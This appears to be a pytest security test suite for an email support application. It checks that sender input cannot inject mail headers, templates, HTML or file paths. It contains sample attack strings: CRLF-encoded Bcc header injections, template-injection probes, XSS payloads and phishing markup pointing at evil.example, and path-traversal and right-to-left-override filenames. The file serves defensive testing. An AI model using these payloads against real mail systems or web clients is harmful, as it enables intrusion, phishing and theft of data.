"""What a stranger writes stays what it is: no field, no template, no markup and no file's place comes of it."""

import re
from datetime import UTC, datetime
from email.message import EmailMessage
from typing import Any

import pytest
from lxml import html as reader

from mailbot import operate
from mailbot.app import App
from mailbot.edge.db import clients
from mailbot.weekly import send_owed
from tests.conftest import Studio

ANNA, BOSS = "anna@rose.example", "boss@studio.example"
SINGLE = ("From", "To", "Subject", "Date", "Message-ID", "Reply-To", "In-Reply-To", "References")
OURS = {*SINGLE, "Auto-Submitted", "X-Auto-Response-Suppress", "X-Loop", "Content-Language", "MIME-Version", "Content-Type"}
OURS |= {"Content-Transfer-Encoding"}


def octets(text: str = "Please look at the roses.", kind: str = "text/plain", **fields: bytes | str) -> bytes:
    """A mail made octet by octet: fields as they are given, whatever stands in them."""
    usual: dict[str, bytes | str] = {"From": f"Anna <{ANNA}>", "To": "support@studio.example", "Subject": "Roses", "Message-ID": "<1@x>"}
    head = b""
    for name, body in (usual | {name.replace("_", "-"): body for name, body in fields.items()}).items():
        head += name.encode() + b": " + (body if isinstance(body, bytes) else body.encode()) + b"\r\n"
    return head + f"Content-Type: {kind}; charset=utf-8\r\n\r\n{text}\r\n".encode()


def letters(studio: Studio, app: App) -> list[EmailMessage]:
    return [studio.letter(app, row) for row in studio.outbox(app)]


BREAKS = {
    "CR LF in an encoded word": "=?utf-8?Q?a=0D=0ABcc:_eve=40evil.example=0D=0A?=",
    "CR LF in base64": "=?utf-8?B?YQ0KQmNjOiBldmVAZXZpbC5leGFtcGxlDQoNCmI=?=",
    "LF alone": "=?utf-8?Q?a=0ABcc:_eve=40evil.example?=",
    "CR alone": "=?utf-8?Q?a=0DBcc:_eve=40evil.example?=",
    "NUL": "=?utf-8?Q?a=00Bcc:_eve=40evil.example?=",
    "a line separator": "=?utf-8?B?YeKAqEJjYzogZXZlQGV2aWwuZXhhbXBsZQ==?=",
    "a next line of ISO 8859-1": "=?iso-8859-1?Q?a=85Bcc:_eve=40evil.example?=",
    "an encoded word within an encoded word": "=?utf-8?B?PT91dGYtOD9RP2E9MEQ9MEFCY2M6X2V2ZT00MGV2aWwuZXhhbXBsZT89?=",
    "a vertical tab and a form feed": "=?utf-8?Q?a=0B=0CBcc:_eve=40evil.example?=",
    "UTF-7": "=?utf-7?Q?a+AA0ACg-Bcc:_eve=40evil.example?=",
}
PLACES: dict[str, Any] = {
    "Subject": lambda bad: {"Subject": bad},
    "the name in From": lambda bad: {"From": f"{bad} <{ANNA}>"},
    "the address in From": lambda bad: {"From": f"<{bad}@rose.example>", "Reply_To": ANNA},
    "the name in Reply-To": lambda bad: {"Reply_To": f"{bad} <olga@rose.example>"},
    "the address in Reply-To": lambda bad: {"Reply_To": f"<{bad}@rose.example>"},
    "Message-ID": lambda bad: {"Message_ID": f"<{bad}@rose.example>"},
    "References": lambda bad: {"References": f"<{bad}@rose.example> <2@rose.example>"},
    "In-Reply-To": lambda bad: {"In_Reply_To": f"<{bad}@rose.example>"},
    "To": lambda bad: {"To": f"{bad} <support@studio.example>, <{bad}@rose.example>"},
}


@pytest.mark.parametrize("bad", BREAKS.values(), ids=BREAKS)
@pytest.mark.parametrize("place", PLACES.values(), ids=PLACES)
def test_no_field_comes_of_a_line_break(studio: Studio, place: Any, bad: str) -> None:
    app = studio.open()
    studio.take_in(app, octets(**place(bad)))
    key = app.desk.policy.signer.reply_address("o", 1)
    studio.take_in(app, octets("It is done.", From=BOSS, To=key, Message_ID="<2@x>"))
    made = letters(studio, app)
    assert {one["kind"] for one in studio.outbox(app)} >= {"forward"}
    for letter in made:
        assert set(letter.keys()) <= OURS
        assert [name for name in SINGLE if len(letter.get_all(name, [])) > 1] == []
        assert "Bcc" not in letter
        assert letter.get_content_type() == "multipart/alternative"
        raw = letter.as_bytes().partition(b"\n\n")[0]
        assert not re.search(rb"[\x00\x0b\x0c]|\r(?!\n)", raw)


SPELLS = [
    "{{ 7*191 }}",
    "{% for x in (1, 2) %}{{ 7*191 }}{% endfor %}",
    "{{ desk.__class__.__mro__ }}",
    "{# gone #}",
    "${7*191}",
    "{{ config }}",
]


@pytest.mark.parametrize("spell", SPELLS)
def test_a_template_in_a_mail_is_text(studio: Studio, spell: str) -> None:
    app = studio.open()
    quoted = spell.replace('"', "")
    studio.take_in(app, octets(f"Look: {spell}", Subject=f"S {spell}", From=f'"N {quoted}" <{ANNA}>'))
    key = app.desk.policy.signer.reply_address("o", 1)
    studio.take_in(app, octets(f"It is done: {spell}", From=BOSS, To=key, Message_ID="<2@x>"))
    kinds = {row["kind"]: studio.letter(app, row) for row in studio.outbox(app)}
    assert set(kinds) == {"acknowledgement", "forward", "reply"}
    for kind, letter in kinds.items():
        plain = letter.get_body(("plain",))
        assert plain is not None
        assert spell in plain.get_content()
        # Decoded: the encoded octets and the boundaries are random, and hold any four digits now and then.
        read = [str(letter["Subject"]), *(part.get_content() for part in letter.walk() if part.get_content_maintype() == "text")]
        assert [text for text in read if "1337" in text] == []
        assert f"S {spell}" in str(letter["Subject"]), kind
    assert "Traceback" not in str(studio.journal(app))


@pytest.mark.parametrize("spell", SPELLS[:3])
def test_a_template_in_the_configuration_is_text(studio: Studio, spell: str) -> None:
    studio.configure(desk={"name": f"Studio {spell}"})
    app = studio.open()
    studio.take_in(app, octets())
    for letter in letters(studio, app):
        plain = letter.get_body(("plain",))
        assert plain is not None
        assert "1337" not in plain.get_content()
        assert spell in str(letter["From"])


MARKUP = {
    "a script": "<script>alert(1)</script>",
    "a script in capitals": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "an event handler": '<img src=x onerror="alert(1)">',
    "an event handler of a body": "<body onload=alert(1)>",
    "a vector image": "<svg/onload=alert(1)><animate onbegin=alert(1)>",
    "a frame": '<iframe src="https://evil.example/"></iframe>',
    "an image from outside": '<img src="https://evil.example/pixel.gif">',
    "an image of data": '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
    "a style sheet": '<link rel="stylesheet" href="https://evil.example/x.css"><style>@import "//evil.example/x.css";</style>',
    "a style that overlays": '<div style="position:fixed;top:0;left:0;width:100%;height:100%">pay here</div>',
    "a background": '<table background="https://evil.example/x.gif"><tr><td background="//evil.example/y">a</td></tr></table>',
    "a form": '<form action="https://evil.example/"><input name="password"><button>Go</button></form>',
    "a base": '<base href="https://evil.example/">',
    "a refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "a link of a script": '<a href="javascript:alert(1)">x</a>',
    "a link of a script in disguise": '<a href="&#106;ava\tscript:alert(1)">x</a>',
    "a link of data": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "an object": '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
    "sound and film": '<video src="https://evil.example/x.mp4" autoplay poster="https://evil.example/x.png"></video><audio src="//evil.example/a">',
    "a set of sources": '<picture><source srcset="https://evil.example/x.png"></picture>',
    "mathematics": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "a comment that ends early": "<!--><img src=x onerror=alert(1)>-->",
    "a template": '<template><img src="https://evil.example/x"></template>',
    "the end of our markup": "</pre></div></td></table></body></html><script>alert(1)</script>",
    "an attribute that is broken off": '"><img src=x onerror=alert(1)>',
}
LOADS = {"src", "srcset", "background", "poster", "data", "action", "formaction", "ping", "xlink:href"}


def harmless(letter: EmailMessage) -> None:
    body = letter.get_body(("html",))
    assert body is not None
    for element in reader.document_fromstring(body.get_content()).iter():
        if not isinstance(element.tag, str):
            continue
        assert element.tag not in {
            "script",
            "iframe",
            "object",
            "embed",
            "form",
            "input",
            "button",
            "base",
            "link",
            "svg",
            "math",
            "video",
            "audio",
        }
        for name, value in element.attrib.items():
            assert not name.lower().startswith("on"), (element.tag, name)
            assert name.lower() not in LOADS, (element.tag, name)
            assert not re.search(r"position\s*:|url\(|@import|expression", value), value
            if name == "href":
                assert re.match(r"https?:|mailto:", value), value
        assert element.tag != "meta" or "refresh" not in str(element.attrib).lower()
        assert element.tag != "style" or "evil" not in (element.text or "")


@pytest.mark.parametrize("markup", MARKUP.values(), ids=MARKUP)
def test_markup_of_a_stranger_loads_runs_and_covers_nothing(studio: Studio, markup: str) -> None:
    app = studio.open()
    studio.take_in(app, octets(f"<p>Look at the roses.</p>{markup}<p>Thanks</p>", "text/html"))
    name = markup.replace("\\", "").replace('"', "'").replace("\t", "")
    studio.take_in(
        app, octets(f"Look: {markup}", Subject=markup.replace("\t", ""), From=f'"{name}" <olga@rose.example>', Message_ID="<2@x>")
    )
    key = app.desk.policy.signer.reply_address("o", 2)
    studio.take_in(app, octets(f"It is done. {markup}", From=BOSS, To=key, Message_ID="<3@x>"))
    made = letters(studio, app)
    assert len(made) == 5
    for letter in made:
        harmless(letter)


@pytest.mark.parametrize("markup", MARKUP.values(), ids=MARKUP)
def test_markup_loads_and_runs_nothing_in_the_summaries(studio: Studio, markup: str) -> None:
    one_line = markup.replace("\t", "")
    name = one_line.replace("\\", "").replace('"', "'")
    studio.clock.now = datetime(2026, 11, 18, 12, 0, tzinfo=UTC)
    studio.configure(
        causes={"tree": [one_line[:40].strip(), "other"]},
        summary={"clients": True, "at": "09:00"},
        desk={"name": f"Studio {one_line}"[:120]},
    )
    app = studio.open()
    with app.desk.database.writing() as transaction:
        clients.save(transaction, clients.ClientRecord(f"{one_line} Ltd", contacts=(ANNA,)), studio.clock())
    send_owed(app.desk, app.schedule)
    studio.take_in(app, octets(f"Look: {markup}", Subject=f"Request {one_line}", From=f'"{name}" <{ANNA}>'))
    studio.take_in(app, octets("Another one, about the opening hours.", Subject=one_line, From=f'"{name}" <{ANNA}>', Message_ID="<2@x>"))
    with app.desk.database.writing() as transaction:
        operate.name_cause(transaction, app.desk, 1, one_line[:40], BOSS, studio.clock())
    studio.clock.now = datetime(2026, 11, 23, 9, 0, tzinfo=UTC)
    send_owed(app.desk, app.schedule)
    rows = studio.outbox(app, "summary")
    assert {row["to"] for row in rows} == {BOSS, ANNA}
    for row in rows:
        harmless(studio.letter(app, row))


NAMES = {
    "a way out": "../../etc/passwd",
    "an absolute path": "/etc/passwd",
    "a way out of another system": "..\\..\\windows\\system.ini",
    "a drive": "C:\\autoexec.bat",
    "only dots": "..",
    "a hidden file": ".ssh",
    "NUL": "a\0b.exe",
    "a line break": "a\r\nX-Evil: yes.pdf",
    "a thousand characters": "a" * 1000 + ".pdf",
    "text from right to left": "invoice\u202efdp.exe",
    "a reserved name": "CON",
    "a tilde": "~root/.profile",
    "markup": "<img src=x onerror=alert(1)>.png",
    "an option": "-rf",
    "nothing": "",
    "white space": "   ",
    "a template": "{{ 7*191 }}",
}


def percent(name: str) -> str:
    return "".join(f"%{octet:02X}" for octet in name.encode())


@pytest.mark.parametrize("name", NAMES.values(), ids=NAMES)
def test_the_name_of_an_attachment_is_data(studio: Studio, name: str) -> None:
    app = studio.open()
    parts = f"--b\r\nContent-Type: text/plain\r\n\r\nSee the file.\r\n--b\r\nContent-Type: application/pdf\r\nContent-Disposition: attachment; filename*=utf-8''{percent(name)}\r\n\r\nfile\r\n--b--"
    studio.take_in(app, octets(parts, 'multipart/mixed; boundary="b"'))
    assert len(studio.tickets(app)[0]["messages"][0]["attachments"]) == 1
    before = set(studio.folder.rglob("*"))
    run = studio.run("show", "1", "--save", "saved")
    assert run.returncode == 0, run.stderr
    new = set(studio.folder.rglob("*")) - before
    saved = studio.folder / "saved"
    (file,) = [path for path in new if path.is_file() and not path.name.startswith("mailbot.db")]
    assert file.parent == saved
    assert file.read_bytes().strip() == b"file"
    assert re.fullmatch(r"[\w. -]{1,140}", file.name)
    assert not file.name.startswith((".", "-", "~"))
    assert "\u202e" not in run.stdout
    assert "\0" not in run.stdout
    studio.deliver(app)
    for path in (path for path in (studio.folder / "out").rglob("*") if path.is_file()):
        assert b"\nX-Evil" not in path.read_bytes()
    for letter in letters(studio, app):
        harmless(letter)
